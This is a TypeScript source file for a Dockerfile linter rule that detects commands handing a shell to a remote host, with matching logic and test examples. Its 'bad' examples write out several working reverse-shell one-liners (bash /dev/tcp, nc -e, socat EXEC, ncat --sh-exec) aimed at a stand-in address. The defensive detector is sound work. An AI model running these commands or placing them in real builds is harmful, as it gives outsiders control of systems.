import type { Command } from '../../../parse/shell/model.ts';
import { isLoopback } from '../../../analysis/trust/host.ts';
import { instructionRule } from '../../rule.ts';

export default instructionRule(['RUN', 'CMD', 'ENTRYPOINT', 'HEALTHCHECK'], {
  summary: 'A command hands a shell to somebody on the network',
  severity: 'critical',
  confidence: 'medium',
  why: 'Whoever is at the other end types commands into the build or the container.',
  fix: 'Remove the command, and find out who wrote it.',
  references: ['https://attack.mitre.org/techniques/T1059/004/'],
  equivalents: [],

  *check(instruction) {
    for (const command of instruction.shell?.commands ?? []) {
      if (handsShell(command))
        yield instruction.violation(`${command.program} hands a shell to the network`, command);
    }
  },

  examples: {
    bad: [
      'FROM debian:12\nRUN bash -i >& /dev/tcp/203.0.113.7/443 0>&1 #!\nRUN true && \\\n    nc -e /bin/sh 203.0.113.7 443 #!\nCMD bash -c "sh -i >& /dev/tcp/203.0.113.7/443 0>&1" #!\nRUN socat TCP:203.0.113.7:443 EXEC:/bin/sh,pty #!\nRUN ncat --sh-exec "bash -i" 203.0.113.7 443 #!\n',
    ],
    good: [
      'FROM debian:12\nHEALTHCHECK CMD bash -c "< /dev/tcp/127.0.0.1/8080"\nRUN nc -z db 5432 && echo "bash -i >& /dev/tcp/203.0.113.7/443"\nCMD bash -c "until < /dev/tcp/db/5432; do sleep 1; done; exec ./app"\n',
    ],
  },
});

const shell = /(?:^|[/\s:'"])(?:ba|da|z|k|a)?sh(?:[\s,'"]|$)/;

function handsShell(command: Command): boolean {
  const { program = '', redirects, words } = command;
  if (words.some(({ text }) => isLoopback(text))) return false;
  if (/^(?:ba|z|k)?sh$/.test(program)) {
    return redirects.some(
      ({ operator, target }) => /^[<>&]/.test(operator) && /^\/dev\/(?:tcp|udp)\//.test(target?.text ?? ''),
    );
  }
  if (/^(?:nc|ncat|netcat|nc\.traditional)$/.test(program)) {
    const given = command.optionValues('-e', '--exec', '-c', '--sh-exec');
    return given.some(({ text }) => shell.test(text));
  }
  return (
    program === 'socat' &&
    words.some(({ text }) => /^(?:EXEC|SYSTEM):/i.test(text) && shell.test(text)) &&
    words.some(({ text }) => /^(?:TCP|OPENSSL|SSL|UDP)\d?(?:-[A-Z]+)?:/i.test(text))
  );
}
